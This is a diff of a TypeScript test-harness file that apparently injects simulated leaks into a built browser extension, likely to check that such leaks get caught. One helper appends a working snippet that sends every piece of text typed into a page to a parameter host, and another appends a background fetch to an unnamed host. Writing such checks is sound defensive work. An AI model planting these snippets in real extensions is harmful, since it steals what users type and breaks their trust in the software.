@@ -1,4 +1,4 @@
-import { appendFileSync, readFileSync, writeFileSync } from 'node:fs';
+import { appendFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Target } from '../../../tools/build/manifest-for';
 import { copyOfBuild } from '../harness/build';
@@ -17,12 +17,9 @@ export const leakFromPage = (host: string) => (folder: string) =>
     `;document.addEventListener('input', (e) => { fetch('https://${host}/?' + encodeURIComponent(e.target.textContent), { mode: 'no-cors' }).catch(() => {}); });`,
   );
 
-/** The background asks a host for something, its content policy loosened. */
-export const leakFromBackground = (host: string) => (folder: string) => {
-  const manifest = join(folder, 'manifest.json');
-  writeFileSync(manifest, readFileSync(manifest, 'utf8').replace("connect-src 'none'", 'connect-src https:'));
+/** The background asks a host for something that nobody named. */
+export const leakFromBackground = (host: string) => (folder: string) =>
   appendFileSync(join(folder, 'background.js'), `;fetch('https://${host}/').catch(() => {});`);
-};
 
 /** The injected session keeps what is typed in the page's storage. */
 export const keepInPage = (folder: string) =>
